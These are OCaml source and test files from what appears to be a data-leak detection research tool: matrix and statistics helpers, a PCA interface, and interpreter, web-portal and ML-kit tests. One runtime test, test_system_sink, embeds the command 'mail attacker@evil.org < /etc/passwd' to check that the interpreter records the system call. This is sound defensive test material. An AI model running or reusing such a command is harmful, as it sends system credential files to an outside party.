
let row m i = Array.init m.cols (fun j -> m.data.((i * m.cols) + j))

let col m j = Array.init m.rows (fun i -> m.data.((i * m.cols) + j))

let transpose m = init m.cols m.rows (fun i j -> m.data.((j * m.cols) + i))

let mul a b =
  if a.cols <> b.rows then invalid_arg "Matrix.mul: dimension mismatch";
  let m = create a.rows b.cols in
  for i = 0 to a.rows - 1 do
    for k = 0 to a.cols - 1 do
      let aik = a.data.((i * a.cols) + k) in
      if aik <> 0.0 then
        for j = 0 to b.cols - 1 do
          m.data.((i * b.cols) + j) <-
            m.data.((i * b.cols) + j) +. (aik *. b.data.((k * b.cols) + j))
        done
    done
  done;
  m

let zip_with op a b =
  if a.rows <> b.rows || a.cols <> b.cols then invalid_arg "Matrix: dimension mismatch";
  { a with data = Array.init (Array.length a.data) (fun i -> op a.data.(i) b.data.(i)) }

let add a b = zip_with ( +. ) a b
let sub a b = zip_with ( -. ) a b

let scale k m = { m with data = Array.map (fun x -> k *. x) m.data }

let mul_vec m v =
  if m.cols <> Array.length v then invalid_arg "Matrix.mul_vec: dimension mismatch";
  Array.init m.rows (fun i ->
      let acc = ref 0.0 in
      for j = 0 to m.cols - 1 do
        acc := !acc +. (m.data.((i * m.cols) + j) *. v.(j))
      done;
      !acc)

let map f m = { m with data = Array.map f m.data }

let equal ?(eps = 1e-9) a b =
  a.rows = b.rows && a.cols = b.cols
  && Array.for_all2 (fun x y -> Float.abs (x -. y) <= eps) a.data b.data

let row_sums m =
  Array.init m.rows (fun i ->
      let acc = ref 0.0 in
      for j = 0 to m.cols - 1 do
        acc := !acc +. m.data.((i * m.cols) + j)
      done;
      !acc)

let col_sums m =
  let sums = Array.make m.cols 0.0 in
  for i = 0 to m.rows - 1 do
    for j = 0 to m.cols - 1 do
      sums.(j) <- sums.(j) +. m.data.((i * m.cols) + j)
    done
  done;
  sums

let normalize_rows m =
  let out = copy m in
  for i = 0 to m.rows - 1 do
    let s = ref 0.0 in
    for j = 0 to m.cols - 1 do
      s := !s +. m.data.((i * m.cols) + j)
    done;
    if !s = 0.0 then
      for j = 0 to m.cols - 1 do
        out.data.((i * m.cols) + j) <- 1.0 /. float_of_int m.cols
      done
    else
      for j = 0 to m.cols - 1 do
        out.data.((i * m.cols) + j) <- m.data.((i * m.cols) + j) /. !s
      done
  done;
  out

let frobenius m = sqrt (Array.fold_left (fun acc x -> acc +. (x *. x)) 0.0 m.data)

let pp ppf m =
  Format.fprintf ppf "@[<v>";
  for i = 0 to m.rows - 1 do
    Format.fprintf ppf "@[<h>";
    for j = 0 to m.cols - 1 do
      Format.fprintf ppf "%8.4f " m.data.((i * m.cols) + j)
    done;
    Format.fprintf ppf "@]@,"
  done;
  Format.fprintf ppf "@]"

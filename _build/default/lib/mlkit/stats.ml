let check_non_empty name xs = if Array.length xs = 0 then invalid_arg (name ^ ": empty array")

let mean xs =
  check_non_empty "Stats.mean" xs;
  Array.fold_left ( +. ) 0.0 xs /. float_of_int (Array.length xs)

let variance xs =
  check_non_empty "Stats.variance" xs;
  let m = mean xs in
  Array.fold_left (fun acc x -> acc +. ((x -. m) *. (x -. m))) 0.0 xs
  /. float_of_int (Array.length xs)

let stddev xs = sqrt (variance xs)

let quantile xs q =
  check_non_empty "Stats.quantile" xs;
  if q < 0.0 || q > 1.0 then invalid_arg "Stats.quantile: q out of range";
  let sorted = Array.copy xs in
  Array.sort compare sorted;
  let n = Array.length sorted in
  let pos = q *. float_of_int (n - 1) in
  let lo = int_of_float (Float.floor pos) in
  let hi = int_of_float (Float.ceil pos) in
  if lo = hi then sorted.(lo)
  else
    let w = pos -. float_of_int lo in
    ((1.0 -. w) *. sorted.(lo)) +. (w *. sorted.(hi))

let min_max xs =
  check_non_empty "Stats.min_max" xs;
  Array.fold_left
    (fun (lo, hi) x -> (Float.min lo x, Float.max hi x))
    (xs.(0), xs.(0))
    xs

let logsumexp xs =
  if Array.length xs = 0 then neg_infinity
  else
    let m = Array.fold_left Float.max neg_infinity xs in
    if m = neg_infinity then neg_infinity
    else m +. log (Array.fold_left (fun acc x -> acc +. exp (x -. m)) 0.0 xs)

let euclidean_distance a b =
  if Array.length a <> Array.length b then invalid_arg "Stats.euclidean_distance: length mismatch";
  let acc = ref 0.0 in
  for i = 0 to Array.length a - 1 do
    let d = a.(i) -. b.(i) in
    acc := !acc +. (d *. d)
  done;
  sqrt !acc

let arg_best better xs =
  check_non_empty "Stats.argmax/argmin" xs;
  let best = ref 0 in
  for i = 1 to Array.length xs - 1 do
    if better xs.(i) xs.(!best) then best := i
  done;
  !best

let argmax xs = arg_best ( > ) xs
let argmin xs = arg_best ( < ) xs

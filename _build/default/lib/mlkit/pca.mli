(** Principal component analysis.

    Used by the profile constructor to reduce the dimensionality of
    call-transition vectors (pCTV) before k-means clustering, as in
    Sec. IV-C4 of the paper. Eigendecomposition of the covariance matrix
    is computed with the cyclic Jacobi method, which is robust for the
    small symmetric matrices arising here. *)

type model = {
  mean : float array;  (** per-feature mean of the training data *)
  components : Matrix.t;  (** one principal axis per row, unit norm *)
  eigenvalues : float array;  (** variance along each axis, descending *)
}

val jacobi_eigen : Matrix.t -> float array * Matrix.t
(** [jacobi_eigen m] for a symmetric matrix returns [(values, vectors)]
    with eigenvalues in descending order and the corresponding unit
    eigenvectors as the {e rows} of [vectors].
    @raise Invalid_argument if [m] is not square. *)

val fit : ?variance_kept:float -> ?max_components:int -> Matrix.t -> model
(** [fit data] treats each row of [data] as an observation. Components
    are retained until [variance_kept] (default [0.95]) of the total
    variance is explained, capped at [max_components] when given. *)

val transform : model -> Matrix.t -> Matrix.t
(** Project observations (rows) into the principal subspace. *)

val fit_transform : ?variance_kept:float -> ?max_components:int -> Matrix.t -> model * Matrix.t

val explained_variance_ratio : model -> float array

(** Small statistics helpers shared by the evaluation harness. *)

val mean : float array -> float
(** @raise Invalid_argument on an empty array. *)

val variance : float array -> float
(** Population variance. @raise Invalid_argument on an empty array. *)

val stddev : float array -> float

val quantile : float array -> float -> float
(** [quantile xs q] with [q] in [\[0, 1\]]; linear interpolation between
    order statistics. @raise Invalid_argument on an empty array. *)

val min_max : float array -> float * float

val logsumexp : float array -> float
(** Numerically stable [log (sum (exp xs))]; [neg_infinity] when empty. *)

val euclidean_distance : float array -> float array -> float

val argmax : float array -> int
val argmin : float array -> int

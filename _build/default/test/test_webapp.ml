(* Tests for the web-application support (the paper's Sec. VIII future
   work): the HTTP request-loop builtins, routing/response behaviour of
   the customer portal, and end-to-end detection of a web-borne
   injection. *)

module Parser = Applang.Parser
module Analyzer = Analysis.Analyzer
module Interp = Runtime.Interp
module Testcase = Runtime.Testcase
module Pipeline = Adprom.Pipeline

let run_requests src requests =
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let engine = Sqldb.Engine.create () in
  Interp.collect_trace ~analysis ~engine (Testcase.make ~requests "t")

let echo_server =
  {|
    fun main() {
      while (http_next_request()) {
        http_respond(200, strcat(strcat(http_method(), " "), http_path()));
        http_write(http_param("x"));
      }
      puts("done");
    }
  |}

let test_request_loop () =
  let _, out =
    run_requests echo_server
      [
        Testcase.get ~params:[ ("x", "one") ] "/a";
        Testcase.post ~params:[ ("x", "two") ] "/b";
      ]
  in
  Alcotest.(check bool) "ok" true (out.Interp.status = Ok ());
  Alcotest.(check string) "responses in order" "HTTP 200\nGET /a\noneHTTP 200\nPOST /b\ntwo"
    out.Interp.responses;
  Alcotest.(check string) "loop drains then continues" "done\n" out.Interp.stdout

let test_no_requests () =
  let _, out = run_requests echo_server [] in
  Alcotest.(check string) "empty response stream" "" out.Interp.responses

let test_missing_param_is_empty () =
  let _, out = run_requests echo_server [ Testcase.get "/a" ] in
  Alcotest.(check string) "missing param renders empty" "HTTP 200\nGET /a\n"
    out.Interp.responses

let test_http_sinks_labeled () =
  (* Responding with DB data labels the http_respond site. *)
  let src =
    {|
      fun main() {
        let conn = db_connect("pg");
        while (http_next_request()) {
          let r = pq_exec(conn, "SELECT name FROM t");
          http_respond(200, pq_getvalue(r, 0, 0));
        }
      }
    |}
  in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  Alcotest.(check int) "http_respond is a labeled DB-output site" 1
    (List.length analysis.Analyzer.taint.Analysis.Taint.labeled_blocks)

(* --- the portal ------------------------------------------------------------- *)

let portal = lazy (
  let app = Dataset.Web_portal.app () in
  let ds = Pipeline.collect app in
  (app, ds, Pipeline.train ds))

let portal_run requests =
  let app, ds, _ = Lazy.force portal in
  let tc = Testcase.make ~requests "t" in
  Pipeline.run_case ~analysis:ds.Pipeline.analysis app tc

let test_portal_routes () =
  let _, out =
    portal_run
      [
        Testcase.get ~params:[ ("id", "3") ] "/customer";
        Testcase.get ~params:[ ("id", "999") ] "/customer";
        Testcase.get "/nope";
        Testcase.get ~params:[ ("customer", "3") ] "/order";
        Testcase.post ~params:[ ("customer", "3"); ("amount", "50") ] "/order";
        Testcase.get "/report";
      ]
  in
  let has needle =
    let n = String.length needle and h = String.length out.Interp.responses in
    let rec probe i =
      i + n <= h && (String.sub out.Interp.responses i n = needle || probe (i + 1))
    in
    Alcotest.(check bool) (Printf.sprintf "response contains %S" needle) true (probe 0)
  in
  has "member03q";
  has "HTTP 404";
  has "HTTP 405";
  has "HTTP 201";
  has "orders=";
  Alcotest.(check bool) "order was recorded" true
    (List.exists (fun (p, _) -> p = "portal.log") out.Interp.files)

let test_portal_sessions_clean () =
  let app, ds, _ = Lazy.force portal in
  List.iter
    (fun tc ->
      let _, out = Pipeline.run_case ~analysis:ds.Pipeline.analysis app tc in
      match out.Interp.status with
      | Ok () -> ()
      | Error msg -> Alcotest.failf "%s: %s" tc.Testcase.name msg)
    (List.filteri (fun i _ -> i < 10) app.Pipeline.test_cases)

let test_portal_injection_detected () =
  let app, ds, profile = Lazy.force portal in
  let classify tc =
    let trace, _ = Pipeline.run_case ~analysis:ds.Pipeline.analysis app tc in
    Adprom.Detector.worst (List.map snd (Adprom.Detector.monitor profile trace))
  in
  Alcotest.(check bool) "normal session is normal" true
    (classify (List.hd app.Pipeline.test_cases) = Adprom.Detector.Normal);
  Alcotest.(check bool) "web injection raises the data-leak flag" true
    (classify Dataset.Web_portal.injection_session = Adprom.Detector.Data_leak)

let test_portal_injection_harvests () =
  let _, out = portal_run Dataset.Web_portal.injection_session.Testcase.requests in
  Alcotest.(check bool) "all 25 customers leaked" true (out.Interp.leaked_values >= 25)

let () =
  Alcotest.run "webapp"
    [
      ( "builtins",
        [
          Alcotest.test_case "request loop" `Quick test_request_loop;
          Alcotest.test_case "no requests" `Quick test_no_requests;
          Alcotest.test_case "missing parameter" `Quick test_missing_param_is_empty;
          Alcotest.test_case "response sinks are labeled" `Quick test_http_sinks_labeled;
        ] );
      ( "portal",
        [
          Alcotest.test_case "routing and responses" `Quick test_portal_routes;
          Alcotest.test_case "sessions run clean" `Quick test_portal_sessions_clean;
          Alcotest.test_case "injection detected" `Quick test_portal_injection_detected;
          Alcotest.test_case "injection harvests the table" `Quick test_portal_injection_harvests;
        ] );
    ]

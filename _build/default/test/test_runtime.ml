(* Tests for the interpreter and its instrumentation: language
   semantics, scripted I/O, dynamic taint labels, patches, collectors,
   and failure handling. *)

module Parser = Applang.Parser
module Analyzer = Analysis.Analyzer
module Symbol = Analysis.Symbol
module Interp = Runtime.Interp
module Testcase = Runtime.Testcase
module Collector = Runtime.Collector

let run_src ?(input = []) ?(files = []) ?patches ?max_steps ?(setup = fun _ -> ()) src =
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let engine = Sqldb.Engine.create () in
  setup engine;
  let tc = Testcase.make ~input ~files "t" in
  Interp.collect_trace ?patches ?max_steps ~analysis ~engine tc

let stdout_of ?input ?files ?setup src =
  let _, out = run_src ?input ?files ?setup src in
  (match out.Interp.status with
  | Ok () -> ()
  | Error msg -> Alcotest.failf "unexpected runtime error: %s" msg);
  out.Interp.stdout

let symbols_of trace =
  Array.to_list (Array.map (fun (e : Collector.event) -> Symbol.to_string e.Collector.symbol) trace)

(* --- language semantics --------------------------------------------------- *)

let test_arith () =
  Alcotest.(check string) "arithmetic and precedence" "17 1 2"
    (stdout_of "fun main() { printf(\"%d %d %d\", 3 + 2 * 7, 7 % 2, 7 / 3); }")

let test_string_ops () =
  Alcotest.(check string) "concat and compare" "ab-3-true"
    (stdout_of
       {|fun main() { printf("%s-%d-%s", strcat("a", "b"), strlen("abc"), to_string(strcmp("a","a") == 0)); }|})

let test_control_flow () =
  Alcotest.(check string) "loops with break/continue" "0 1 3 4 "
    (stdout_of
       {|
         fun main() {
           for (let i = 0; i < 10; i = i + 1) {
             if (i == 2) { continue; }
             if (i == 5) { break; }
             printf("%d ", i);
           }
         }
       |})

let test_while_and_functions () =
  Alcotest.(check string) "recursion" "120"
    (stdout_of
       {|
         fun fact(n) {
           if (n <= 1) { return 1; }
           return n * fact(n - 1);
         }
         fun main() { printf("%d", fact(5)); }
       |})

let test_short_circuit () =
  (* The right operand must not run when the left decides. *)
  let trace, _ =
    run_src
      {|
        fun main() {
          if (1 == 2 && boom() == 1) { printf("no"); }
          if (1 == 1 || boom() == 1) { printf("yes"); }
        }
        fun boom() { puts("BOOM"); return 1; }
      |}
  in
  Alcotest.(check bool) "boom never called" true
    (not (List.exists (fun s -> s = "puts") (symbols_of trace)))

let test_scanf_scripting () =
  Alcotest.(check string) "scripted stdin" "hello 42 "
    (stdout_of ~input:[ "hello"; "42" ]
       {|fun main() { printf("%s %d ", scanf(), scanf_int()); }|});
  Alcotest.(check string) "exhausted input reads empty" "[]"
    (stdout_of {|fun main() { printf("[%s]", scanf()); }|})

let test_printf_formatting () =
  Alcotest.(check string) "percent escapes and missing args" "50% x "
    (stdout_of {|fun main() { printf("50%% %s %s", "x"); }|})

let test_files_roundtrip () =
  let _, out =
    run_src
      {|
        fun main() {
          let w = fopen("data.txt", "w");
          fputs("line one\nline two", w);
          fclose(w);
          let r = fopen("data.txt", "r");
          while (feof(r) == false) {
            puts(strcat("got: ", fgets(r)));
          }
          fclose(r);
        }
      |}
  in
  Alcotest.(check string) "read back what was written" "got: line one\ngot: line two\n"
    out.Interp.stdout;
  Alcotest.(check bool) "file contents recorded" true
    (List.mem_assoc "data.txt" out.Interp.files)

let test_seeded_files () =
  Alcotest.(check string) "test case supplies file contents" "a\nb\n"
    (stdout_of ~files:[ ("in.txt", "a\nb") ]
       {|
         fun main() {
           let f = fopen("in.txt", "r");
           while (feof(f) == false) { puts(fgets(f)); }
         }
       |})

let test_runtime_errors () =
  let expect_error src pattern =
    let _, out = run_src src in
    match out.Interp.status with
    | Error msg ->
        Alcotest.(check bool)
          (Printf.sprintf "error mentions %S (got %S)" pattern msg)
          true
          (let n = String.length pattern in
           let rec probe i = i + n <= String.length msg && (String.sub msg i n = pattern || probe (i + 1)) in
           probe 0)
    | Ok () -> Alcotest.failf "expected a runtime error for %s" src
  in
  expect_error "fun main() { printf(\"%d\", 1 / 0); }" "division";
  expect_error "fun main() { printf(\"%d\", x); }" "unbound";
  expect_error "fun main() { no_such_fn(); }" "unknown";
  expect_error "fun main() { f(1, 2); } fun f(a) { }" "arguments"

let test_step_budget () =
  let _, out = run_src ~max_steps:500 "fun main() { while (true) { let x = 1; } }" in
  match out.Interp.status with
  | Error msg -> Alcotest.(check bool) "budget error" true (String.length msg > 0)
  | Ok () -> Alcotest.fail "infinite loop must exhaust the budget"

(* --- dynamic taint and labels ---------------------------------------------- *)

let setup_clients engine =
  ignore (Sqldb.Engine.exec engine "CREATE TABLE clients (id, name)");
  ignore (Sqldb.Engine.exec engine "INSERT INTO clients VALUES (1, 'alice'), (2, 'bob')")

let test_dynamic_labels () =
  let trace, out =
    run_src ~setup:setup_clients
      {|
        fun main() {
          let r = pq_exec(db_connect("pg"), "SELECT name FROM clients WHERE id = 1");
          printf("%s\n", pq_getvalue(r, 0, 0));
          printf("just text\n");
        }
      |}
  in
  let labeled =
    List.filter (fun (e : Collector.event) -> Symbol.is_labeled e.Collector.symbol)
      (Array.to_list trace)
  in
  Alcotest.(check int) "exactly one labeled printf" 1 (List.length labeled);
  Alcotest.(check int) "one leaked value counted" 1 out.Interp.leaked_values;
  Alcotest.(check string) "output contains the data" "alice\njust text\n" out.Interp.stdout

let test_dynamic_taint_cleared () =
  let trace, _ =
    run_src ~setup:setup_clients
      {|
        fun main() {
          let v = pq_getvalue(pq_exec(db_connect("pg"), "SELECT name FROM clients"), 0, 0);
          v = "constant";
          printf("%s", v);
        }
      |}
  in
  Alcotest.(check bool) "no label after overwrite" true
    (not (List.exists (fun (e : Collector.event) -> Symbol.is_labeled e.Collector.symbol)
            (Array.to_list trace)))

let test_trace_callers () =
  let trace, _ =
    run_src "fun main() { helper(); puts(\"m\"); } fun helper() { puts(\"h\"); }"
  in
  let callers = Array.to_list (Array.map (fun (e : Collector.event) -> e.Collector.caller) trace) in
  Alcotest.(check (list string)) "callers recorded" [ "helper"; "main" ] callers

let test_patches_fire () =
  let src = "fun main() { puts(\"a\"); puts(\"b\"); }" in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  (* find the block of the first puts *)
  let cfg = List.assoc "main" analysis.Analyzer.cfgs in
  let first_puts =
    fst (List.hd (Analysis.Cfg.call_nodes cfg))
  in
  let patches =
    [
      {
        Runtime.Patch.position = Runtime.Patch.After_block first_puts;
        calls = [ { Runtime.Patch.name = "fwrite"; leaks_td = true } ];
      };
      {
        Runtime.Patch.position = Runtime.Patch.At_function_entry "main";
        calls = [ { Runtime.Patch.name = "lib_probe"; leaks_td = false } ];
      };
    ]
  in
  let engine = Sqldb.Engine.create () in
  let collector, trace = Collector.adprom () in
  let out = Interp.run ~collector ~patches ~analysis ~engine (Testcase.make "t") in
  Alcotest.(check bool) "run ok" true (out.Interp.status = Ok ());
  let syms = symbols_of (trace ()) in
  Alcotest.(check (list string)) "patched calls appear in order"
    [ "lib_probe"; "puts"; Printf.sprintf "fwrite_Q%d" first_puts; "puts" ]
    syms

let test_ltrace_collector () =
  let src = "fun main() { printf(\"%d\", strlen(\"abc\")); }" in
  let analysis = Analyzer.analyze (Parser.parse_program src) in
  let symtab = Runtime.Ltrace.symtab_of_cfgs analysis.Analyzer.cfgs in
  let collector, stats, log = Runtime.Ltrace.make ~symtab in
  let engine = Sqldb.Engine.create () in
  ignore (Interp.run ~collector ~analysis ~engine (Testcase.make "t"));
  Alcotest.(check int) "two calls intercepted" 2 stats.Runtime.Ltrace.calls;
  Alcotest.(check bool) "log grew" true (stats.Runtime.Ltrace.bytes > 0);
  let contents = Buffer.contents log in
  Alcotest.(check bool) "log resolves the caller" true
    (let probe = "main+" in
     let n = String.length probe in
     let rec go i = i + n <= String.length contents && (String.sub contents i n = probe || go (i + 1)) in
     go 0)

let test_mysql_runtime_flow () =
  let stdout =
    stdout_of ~setup:setup_clients
      {|
        fun main() {
          let conn = db_connect("mysql");
          if (mysql_query(conn, "SELECT name FROM clients ORDER BY id") == 0) {
            let res = mysql_store_result(conn);
            let row = mysql_fetch_row(res);
            while (row != null) {
              puts(row[0]);
              row = mysql_fetch_row(res);
            }
          }
        }
      |}
  in
  Alcotest.(check string) "cursor iteration" "alice\nbob\n" stdout

let test_system_sink () =
  let _, out = run_src {|fun main() { system("mail attacker@evil.org < /etc/passwd"); }|} in
  Alcotest.(check int) "system command recorded" 1 (List.length out.Interp.system_calls)

(* --- differential fuzzing: interpreter vs reference evaluator --------------- *)

(* Two-sorted generator (int-valued and bool-valued expressions, as the
   language's operators demand), evaluated both by the interpreter (via
   to_string) and by a direct OCaml evaluator. *)
type ref_value = R_int of int | R_bool of bool

let rec reference_eval (e : Applang.Ast.expr) =
  let module Ast = Applang.Ast in
  let int_of e = match reference_eval e with R_int n -> n | R_bool _ -> assert false in
  let bool_of e = match reference_eval e with R_bool b -> b | R_int n -> n <> 0 in
  match e with
  | Ast.Int n -> R_int n
  | Ast.Bool b -> R_bool b
  | Ast.Binop (Ast.Add, a, b) -> R_int (int_of a + int_of b)
  | Ast.Binop (Ast.Sub, a, b) -> R_int (int_of a - int_of b)
  | Ast.Binop (Ast.Mul, a, b) -> R_int (int_of a * int_of b)
  | Ast.Binop (Ast.Eq, a, b) -> R_bool (int_of a = int_of b)
  | Ast.Binop (Ast.Ne, a, b) -> R_bool (int_of a <> int_of b)
  | Ast.Binop (Ast.Lt, a, b) -> R_bool (int_of a < int_of b)
  | Ast.Binop (Ast.Le, a, b) -> R_bool (int_of a <= int_of b)
  | Ast.Binop (Ast.Gt, a, b) -> R_bool (int_of a > int_of b)
  | Ast.Binop (Ast.Ge, a, b) -> R_bool (int_of a >= int_of b)
  | Ast.Binop (Ast.And, a, b) -> R_bool (bool_of a && bool_of b)
  | Ast.Binop (Ast.Or, a, b) -> R_bool (bool_of a || bool_of b)
  | Ast.Unop (Ast.Neg, a) -> R_int (-int_of a)
  | Ast.Unop (Ast.Not, a) -> R_bool (not (bool_of a))
  | Ast.Binop ((Ast.Div | Ast.Mod), _, _)
  | Ast.Str _ | Ast.Null | Ast.Var _ | Ast.Call _ | Ast.Index _ ->
      assert false

let typed_expr_gen =
  let open QCheck2.Gen in
  let module Ast = Applang.Ast in
  let rec int_expr n =
    if n <= 0 then map (fun i -> Ast.Int (i mod 100)) small_int
    else
      oneof
        [
          map (fun i -> Ast.Int (i mod 100)) small_int;
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.Add; Ast.Sub; Ast.Mul ])
            (int_expr (n / 2)) (int_expr (n / 2));
          map (fun a -> Ast.Unop (Ast.Neg, a)) (int_expr (n / 2));
        ]
  and bool_expr n =
    if n <= 0 then map (fun b -> Ast.Bool b) bool
    else
      oneof
        [
          map (fun b -> Ast.Bool b) bool;
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.Eq; Ast.Ne; Ast.Lt; Ast.Le; Ast.Gt; Ast.Ge ])
            (int_expr (n / 2)) (int_expr (n / 2));
          map3
            (fun op a b -> Ast.Binop (op, a, b))
            (oneofl [ Ast.And; Ast.Or ])
            (bool_expr (n / 2)) (bool_expr (n / 2));
          map (fun a -> Ast.Unop (Ast.Not, a)) (bool_expr (n / 2));
        ]
  in
  sized (fun n -> oneof [ int_expr (min n 8); bool_expr (min n 8) ])

let prop_interpreter_matches_reference =
  QCheck2.Test.make ~name:"interpreter agrees with the reference evaluator" ~count:300
    typed_expr_gen
    (fun e ->
      let expected =
        match reference_eval e with
        | R_int n -> string_of_int n
        | R_bool b -> if b then "true" else "false"
      in
      let src =
        Printf.sprintf "fun main() { printf(\"%%s\", to_string(%s)); }"
          (Applang.Pretty.expr_to_string e)
      in
      match Parser.parse_program src with
      | exception _ -> false
      | program -> (
          let analysis = Analyzer.analyze program in
          let engine = Sqldb.Engine.create () in
          let out = Interp.run ~analysis ~engine (Testcase.make "fuzz") in
          match out.Interp.status with
          | Ok () -> out.Interp.stdout = expected
          | Error _ -> false))

let () =
  Alcotest.run "runtime"
    [
      ( "semantics",
        [
          Alcotest.test_case "arithmetic" `Quick test_arith;
          Alcotest.test_case "strings" `Quick test_string_ops;
          Alcotest.test_case "control flow" `Quick test_control_flow;
          Alcotest.test_case "recursion" `Quick test_while_and_functions;
          Alcotest.test_case "short circuit" `Quick test_short_circuit;
          Alcotest.test_case "scanf scripting" `Quick test_scanf_scripting;
          Alcotest.test_case "printf formatting" `Quick test_printf_formatting;
          Alcotest.test_case "file round trip" `Quick test_files_roundtrip;
          Alcotest.test_case "seeded files" `Quick test_seeded_files;
          Alcotest.test_case "runtime errors" `Quick test_runtime_errors;
          Alcotest.test_case "step budget" `Quick test_step_budget;
        ] );
      ( "fuzz",
        [ QCheck_alcotest.to_alcotest prop_interpreter_matches_reference ] );
      ( "instrumentation",
        [
          Alcotest.test_case "dynamic DB-output labels" `Quick test_dynamic_labels;
          Alcotest.test_case "taint cleared by overwrite" `Quick test_dynamic_taint_cleared;
          Alcotest.test_case "callers in the trace" `Quick test_trace_callers;
          Alcotest.test_case "binary patches fire" `Quick test_patches_fire;
          Alcotest.test_case "ltrace collector" `Quick test_ltrace_collector;
          Alcotest.test_case "mysql cursor flow" `Quick test_mysql_runtime_flow;
          Alcotest.test_case "system sink recorded" `Quick test_system_sink;
        ] );
    ]

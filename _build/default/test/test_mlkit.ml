(* Unit and property tests for the mlkit substrate: RNG, matrices,
   statistics, PCA and k-means. *)

module Rng = Mlkit.Rng
module Matrix = Mlkit.Matrix
module Stats = Mlkit.Stats
module Pca = Mlkit.Pca
module Kmeans = Mlkit.Kmeans

let check_float = Alcotest.(check (float 1e-9))
let check_float_loose = Alcotest.(check (float 1e-6))

(* --- rng --------------------------------------------------------------- *)

let test_rng_deterministic () =
  let a = Rng.create 7 and b = Rng.create 7 in
  let xs = List.init 100 (fun _ -> Rng.int a 1000) in
  let ys = List.init 100 (fun _ -> Rng.int b 1000) in
  Alcotest.(check (list int)) "same seed, same stream" xs ys

let test_rng_bounds () =
  let rng = Rng.create 3 in
  for _ = 1 to 10_000 do
    let v = Rng.int rng 17 in
    if v < 0 || v >= 17 then Alcotest.failf "out of bounds: %d" v
  done;
  for _ = 1 to 10_000 do
    let v = Rng.float rng 2.5 in
    if v < 0.0 || v >= 2.5 then Alcotest.failf "float out of bounds: %f" v
  done

let test_rng_split_independent () =
  let rng = Rng.create 11 in
  let child = Rng.split rng in
  let xs = List.init 50 (fun _ -> Rng.int rng 100) in
  let ys = List.init 50 (fun _ -> Rng.int child 100) in
  Alcotest.(check bool) "streams differ" true (xs <> ys)

let test_rng_invalid () =
  let rng = Rng.create 1 in
  Alcotest.check_raises "bound 0" (Invalid_argument "Rng.int: bound must be positive")
    (fun () -> ignore (Rng.int rng 0));
  Alcotest.check_raises "empty pick" (Invalid_argument "Rng.pick: empty array") (fun () ->
      ignore (Rng.pick rng [||]))

let test_rng_weighted () =
  let rng = Rng.create 5 in
  let counts = Array.make 3 0 in
  for _ = 1 to 30_000 do
    let i = Rng.choose_weighted rng [| 1.0; 2.0; 7.0 |] in
    counts.(i) <- counts.(i) + 1
  done;
  Alcotest.(check bool) "weight ordering respected" true
    (counts.(2) > counts.(1) && counts.(1) > counts.(0));
  let p2 = float_of_int counts.(2) /. 30_000.0 in
  Alcotest.(check bool) "heaviest near 0.7" true (Float.abs (p2 -. 0.7) < 0.03)

let test_rng_shuffle_permutation () =
  let rng = Rng.create 9 in
  let arr = Array.init 50 (fun i -> i) in
  Rng.shuffle rng arr;
  let sorted = Array.copy arr in
  Array.sort compare sorted;
  Alcotest.(check (array int)) "is a permutation" (Array.init 50 (fun i -> i)) sorted

let test_rng_gaussian_moments () =
  let rng = Rng.create 13 in
  let xs = Array.init 50_000 (fun _ -> Rng.gaussian rng) in
  Alcotest.(check bool) "mean near 0" true (Float.abs (Stats.mean xs) < 0.02);
  Alcotest.(check bool) "stddev near 1" true (Float.abs (Stats.stddev xs -. 1.0) < 0.02)

(* --- matrix ------------------------------------------------------------ *)

let test_matrix_basic () =
  let m = Matrix.of_arrays [| [| 1.0; 2.0 |]; [| 3.0; 4.0 |] |] in
  check_float "get" 3.0 (Matrix.get m 1 0);
  Matrix.set m 1 0 9.0;
  check_float "set" 9.0 (Matrix.get m 1 0);
  Alcotest.(check (pair int int)) "dims" (2, 2) (Matrix.dims m)

let test_matrix_identity_mul () =
  let m = Matrix.of_arrays [| [| 1.0; 2.0 |]; [| 3.0; 4.0 |] |] in
  Alcotest.(check bool) "I * m = m" true (Matrix.equal (Matrix.mul (Matrix.identity 2) m) m);
  Alcotest.(check bool) "m * I = m" true (Matrix.equal (Matrix.mul m (Matrix.identity 2)) m)

let test_matrix_mul_known () =
  let a = Matrix.of_arrays [| [| 1.0; 2.0 |]; [| 3.0; 4.0 |] |] in
  let b = Matrix.of_arrays [| [| 5.0; 6.0 |]; [| 7.0; 8.0 |] |] in
  let expected = Matrix.of_arrays [| [| 19.0; 22.0 |]; [| 43.0; 50.0 |] |] in
  Alcotest.(check bool) "2x2 product" true (Matrix.equal (Matrix.mul a b) expected)

let test_matrix_transpose () =
  let m = Matrix.of_arrays [| [| 1.0; 2.0; 3.0 |]; [| 4.0; 5.0; 6.0 |] |] in
  let t = Matrix.transpose m in
  Alcotest.(check (pair int int)) "transposed dims" (3, 2) (Matrix.dims t);
  check_float "element moved" 6.0 (Matrix.get t 2 1)

let test_matrix_normalize_rows () =
  let m = Matrix.of_arrays [| [| 2.0; 2.0 |]; [| 0.0; 0.0 |] |] in
  let n = Matrix.normalize_rows m in
  check_float "normalized" 0.5 (Matrix.get n 0 0);
  check_float "zero row becomes uniform" 0.5 (Matrix.get n 1 1)

let test_matrix_sums () =
  let m = Matrix.of_arrays [| [| 1.0; 2.0 |]; [| 3.0; 4.0 |] |] in
  Alcotest.(check (array (float 1e-9))) "row sums" [| 3.0; 7.0 |] (Matrix.row_sums m);
  Alcotest.(check (array (float 1e-9))) "col sums" [| 4.0; 6.0 |] (Matrix.col_sums m)

let test_matrix_errors () =
  let m = Matrix.create 2 2 in
  Alcotest.check_raises "oob get" (Invalid_argument "Matrix.get: out of bounds") (fun () ->
      ignore (Matrix.get m 2 0));
  Alcotest.check_raises "ragged" (Invalid_argument "Matrix.of_arrays: ragged rows")
    (fun () -> ignore (Matrix.of_arrays [| [| 1.0 |]; [| 1.0; 2.0 |] |]))

let matrix_gen =
  QCheck2.Gen.(
    let dim = int_range 1 6 in
    pair dim dim >>= fun (r, c) ->
    array_size (pure (r * c)) (float_range (-10.0) 10.0) >|= fun data ->
    Matrix.init r c (fun i j -> data.((i * c) + j)))

let prop_transpose_involution =
  QCheck2.Test.make ~name:"transpose is an involution" ~count:100 matrix_gen (fun m ->
      Matrix.equal (Matrix.transpose (Matrix.transpose m)) m)

let prop_mul_vec_matches_mul =
